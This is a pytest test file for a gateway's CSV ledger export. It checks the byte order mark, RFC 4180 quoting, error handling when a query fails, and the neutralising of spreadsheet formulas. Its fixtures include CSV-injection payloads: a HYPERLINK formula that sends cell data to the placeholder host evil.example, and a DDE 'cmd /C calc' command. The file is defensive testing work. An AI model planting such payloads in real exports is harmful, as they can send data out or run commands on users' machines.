"""The ledger CSV export: a UTF-8 byte order mark for Excel, formulas defused in free text
(OWASP "CSV Injection"), RFC 4180 quoting kept, refusals answered before the CSV starts."""

from __future__ import annotations

import csv
import io

import pytest
from contract_factories import make_award, make_registration
from fastapi.testclient import TestClient
from gateway_factories import Publisher, publish_many
from sqlalchemy import text

from contracts.uscc import complete_uscc
from gateway.runtime import Runtime

# (published name, the cell a spreadsheet gets)
NAMES = [
    (
        '=HYPERLINK("http://evil.example/?x="&A2,"点击")',
        '\'=HYPERLINK("http://evil.example/?x="&A2,"点击")',
    ),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)*cmd", "'@SUM(1+1)*cmd"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("'=1+1", "''=1+1"),  # one more quote, so that removing one gives the published text
    ("'厦门某某", "'厦门某某"),
    ('厦门,"某某"\n有限公司', '厦门,"某某"\n有限公司'),
    ("福州 = 某某 - 有限公司", "福州 = 某某 - 有限公司"),
]
CODES = [complete_uscc(f"913502{n:02d}MA000000") for n in range(len(NAMES))]


def export(client: TestClient, query: str = "") -> list[dict[str, str]]:
    response = client.get(f"/v1/ledgers/basic/export.csv{query}")
    assert response.status_code == 200, response.text
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def test_the_export_starts_with_a_utf8_byte_order_mark(
    client: TestClient, authority: Publisher
) -> None:
    """Without it Excel reads the file in the locale's code page and garbles the names."""
    response = client.get("/v1/ledgers/basic/export.csv")
    assert response.content.startswith("\ufeffuscc,name,".encode())
    assert response.text.count("\ufeff") == 1
    publish_many(
        client, [authority.message("enterprise.registered", make_registration(), subject=CODES[0])]
    )
    response = client.get("/v1/ledgers/basic/export.csv")
    assert response.content.startswith("\ufeffuscc,name,".encode())
    assert "宁德某某化工有限公司".encode() in response.content
    assert response.text.count("\ufeff") == 1


def test_free_text_that_a_spreadsheet_would_run_gets_a_leading_quote(
    client: TestClient, authority: Publisher
) -> None:
    tokens = []
    for code, (name, _) in zip(CODES, NAMES, strict=True):
        tokens.append(
            authority.message("enterprise.registered", make_registration(name=name), subject=code)
        )
    tokens.append(
        authority.message("grade.awarded", make_award(certificate_no="=1+2"), subject=CODES[-1])
    )
    assert publish_many(client, tokens).json()["rejected"] == 0
    rows = {row["uscc"]: row for row in export(client)}
    assert [rows[code]["name"] for code in CODES] == [cell for _, cell in NAMES]
    assert rows[CODES[-1]]["certificate_no"] == "'=1+2"
    # the gateway's own columns are left as they are
    assert rows[CODES[-1]]["grade_valid_from"] == "2024-01-10"
    assert rows[CODES[-1]]["region_code"] == "350900"


@pytest.mark.parametrize(
    "name",
    [
        '厦门,"某某"\n有限公司',
        'a "quoted", name\r\nover lines',
        "厦门某某\r下一行",  # a bare CR was written unquoted: the row ended there
        "福州某某\r",
    ],
)
def test_commas_quotes_and_line_breaks_stay_quoted(
    client: TestClient, authority: Publisher, name: str
) -> None:
    registration = make_registration(name=name)
    token = authority.message("enterprise.registered", registration, subject=CODES[0])
    assert publish_many(client, [token]).json()["rejected"] == 0
    (row,) = export(client)
    assert row["name"] == name
    assert row["uscc"] == CODES[0]


def test_a_query_the_database_refuses_is_a_problem_not_a_header_only_csv(
    runtime: Runtime, client: TestClient, authority: Publisher
) -> None:
    """The export reads its first rows before answering: a failing query (here the table is
    gone) is an error status, never a 200 that looks like an empty ledger."""
    token = authority.message("enterprise.registered", make_registration(), subject=CODES[0])
    assert publish_many(client, [token]).json()["rejected"] == 0
    with runtime.db.transaction() as session:
        session.execute(text("ALTER TABLE enterprises RENAME TO enterprises_gone"))
    failing = TestClient(client.app, raise_server_exceptions=False)  # the app already started
    failing.headers.update(client.headers)
    response = failing.get("/v1/ledgers/basic/export.csv")
    assert response.status_code >= 500
    assert not response.text.startswith("\ufeffuscc")
